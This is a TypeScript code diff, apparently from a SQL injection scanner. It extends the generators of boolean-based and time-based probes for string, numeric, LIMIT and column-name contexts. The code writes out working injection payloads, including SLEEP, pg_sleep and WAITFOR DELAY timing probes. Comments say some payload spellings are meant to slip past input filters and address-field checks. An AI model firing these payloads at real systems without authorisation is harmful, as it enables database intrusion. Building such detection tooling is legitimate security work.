@@ -17,6 +17,14 @@ export interface Equivalence {
   readonly unknown: readonly string[];
   /** In a short scan it is tried only where the answer says that a statement failed. */
   readonly needsMessage?: boolean;
+  /** Other languages read it alike: without the function it says nothing. */
+  readonly needsFunction?: boolean;
+  /** Tried only where an earlier spelling was answered neither as usual nor as a broken one: something refuses it. */
+  readonly ifRefused?: boolean;
+  /** Tried only where any other word is answered as a broken value: there is no such name. */
+  readonly ifOthersFail?: boolean;
+  /** The quote that it ends, where a shell reads quotes side by side as nothing. */
+  readonly quote?: string;
 }
 
 const LETTERS = 'bcdfghjkmnpqrstvwxz';
@@ -43,11 +51,17 @@ function inString(value: string, quote: string, operator: string): Equivalence {
   // In a pattern a wild card stands before the last quote.
   const liked = (name: string) =>
     `${value}%${quote}AND(${name}(${quote}${letter.toUpperCase()}${quote}))LIKE${quote}${letter}`;
+  /** One more of a list. */
+  const listed = (name: string) => `${value}${quote},${name}(${quote}${value}${quote}),${quote}${value}`;
+  // Without white space and words, which filters take out.
+  const signed = (name: string) =>
+    `${value}${quote}&&(${name}(${quote}${letter.toUpperCase()}${quote}))=${quote}${letter}`;
   // Where a new value is written and not compared, a strict database reads no text as a number: LIKE alone does with text.
   const written = (name: string) =>
     `${value}${quote} LIKE ${name}(${quote}${letter.toUpperCase()}${quote}) LIKE ${quote}${letter}`;
-  const spellings = operator === ' ' ? [compared, liked, written] : [joined];
+  const spellings = operator === ' ' ? [compared, liked, written, listed] : operator === '/**/' ? [signed] : [joined];
   return {
+    quote,
     context:
       quote === "'"
         ? { it: 'una stringa tra apici', en: 'a string in single quotes' }
@@ -74,6 +88,51 @@ function asNumber(value: string): Equivalence {
     broken: [minus(r, `${r}-`), minus(s, `${s}-`)],
     known: [minus(r, `ABS(${r})`)],
     unknown: [minus(r, `ABZ(${r})`)],
+  };
+}
+
+/** Without minus, blank and quote, which filters take out. */
+function asProduct(value: string): Equivalence {
+  const [r, s] = [randomBetween(31, 97), randomBetween(101, 199)];
+  return {
+    context: { it: 'un numero', en: 'a number' },
+    same: [`${value}*(${r}=${r})`, `${value}*(${s}=${s})`],
+    broken: [`${value}*(${r}=${r}`, `${value}*(${s}=${s}`],
+    known: [`${value}*(ABS(${r})=${r})`],
+    unknown: [`${value}*(ABZ(${r})=${r})`],
+    needsFunction: true,
+    needsMessage: true,
+  };
+}
+
+/** After LIMIT, where no database but some takes a sum: a word of SQL takes the place of the function. */
+function asRowCount(value: string): Equivalence {
+  return {
+    context: 'LIMIT',
+    same: [`${value} OFFSET 0`, `${value} offset 0`],
+    broken: [`${value} OFSFET 0`, `${value} OFFSET 0 0`],
+    known: [`${value} OFFSET 0`],
+    unknown: [`${value} OFFSTE 0`],
+  };
+}
+
+const COUNT_NAME = /limit|count|max|top$|^n$|num|size|per_?page|rows|first|quant|anzahl|nombre|cantidad/i;
+
+/** The name of a column or of a table, as an expression of its own. */
+function asName(value: string): Equivalence {
+  const spellings = [
+    (word: string) => `${word}(${value},1)`,
+    (word: string) => `(${word === 'COALESCE' ? 'SELECT' : 'SELCET'}*FROM ${value})q`,
+  ];
+  return {
+    context: { it: 'il nome di una colonna o di una tabella', en: 'the name of a column or a table' },
+    same: [`(${value})`, `((${value}))`],
+    broken: [`(${value}`, `((${value})`],
+    known: spellings.map((spell) => spell('COALESCE')),
+    unknown: spellings.map((spell) => spell('COALECSE')),
+    needsFunction: true,
+    ifOthersFail: true,
+    needsMessage: true,
   };
 }
 
@@ -122,12 +181,15 @@ const ORDER_NAME = /sort|order|dir|col|by$|asc|desc|ordin/i;
 export function equivalencesOf(value: string, name: string, mayWiden: boolean): readonly Equivalence[] {
   const strings = ['||', ' ', ...(mayWiden ? ['+'] : [])].map((operator) => inString(value, "'", operator));
   const found: Equivalence[] = /^(?:\d{1,9},){0,50}\d{1,9}$/.test(value) ? [asNumber(value), ...strings] : strings;
+  if (/^\d{1,9}$/.test(value)) found.push(...(COUNT_NAME.test(name) ? [asRowCount(value)] : []), asProduct(value));
   if (UNQUOTED_DATE.test(value)) found.unshift(asUnquotedDate(value));
   if (/^[a-z_][\w.]{0,60}(?: (?:asc|desc))?$/i.test(value)) {
     if (ORDER_NAME.test(name) || /^(?:asc|desc)$/i.test(value)) found.unshift(asOrder(value));
     else found.push({ ...asOrder(value), needsMessage: true });
   } else if (ORDER_NAME.test(name)) found.push(asOrder(value));
   found.push(inString(value, '"', '||'), inString(value, '"', ' '));
+  if (/^[a-z_]\w{0,60}$/i.test(value)) found.push(asName(value));
+  found.push({ ...inString(value, "'", '/**/'), ifRefused: true });
   if (ORDER_NAME.test(name)) found.push(asQuotedName(value));
   return found;
 }
@@ -260,7 +322,8 @@ export interface Wait {
 }
 
 const SUBQUERIES: ReadonlyArray<readonly [Database, (seconds: number) => string, works?: boolean]> = [
-  ['mysql', (n) => `(SELECT 0 FROM (SELECT(SLEEP(${n})))q)`],
+  // Without a blank, which fields for addresses refuse.
+  ['mysql', (n) => `(SELECT(0)FROM(SELECT(SLEEP(${n})))q)`],
   ['postgresql', (n) => `(SELECT 0 FROM pg_sleep(${n}))`],
   [
     'sqlite',
@@ -278,8 +341,9 @@ export function waitsAt(value: string): readonly Wait[] {
     ...SUBQUERIES.map(([database, of, works = false]): Wait => ({ database, context, works, of: (n) => isIn(of(n)) })),
     { database: 'mssql', context, cuts: true, of: (n) => `${before};WAITFOR DELAY '0:0:${n}'--` },
   ];
-  // MySQL reads || as OR, which serves as well: the subquery runs.
-  const strings = at({ it: 'una stringa', en: 'a string' }, (wait) => `${value}'||${wait}||'`, `${value}'`);
+  // MySQL reads || as OR, which serves as well: the subquery runs. An e-mail address stays one in its form.
+  const [, name = value, domain = ''] = /^([\w.+-]+)(@[\w.-]+)$/.exec(value) ?? [];
+  const strings = at({ it: 'una stringa', en: 'a string' }, (wait) => `${name}'||${wait}||'${domain}`, `${value}'`);
   if (!isNumber) return strings;
   const numbers = at({ it: 'un numero', en: 'a number' }, (wait) => `${value}-${wait}`, value);
   return numbers.flatMap((wait, place) => [wait, ...strings.slice(place, place + 1)]);
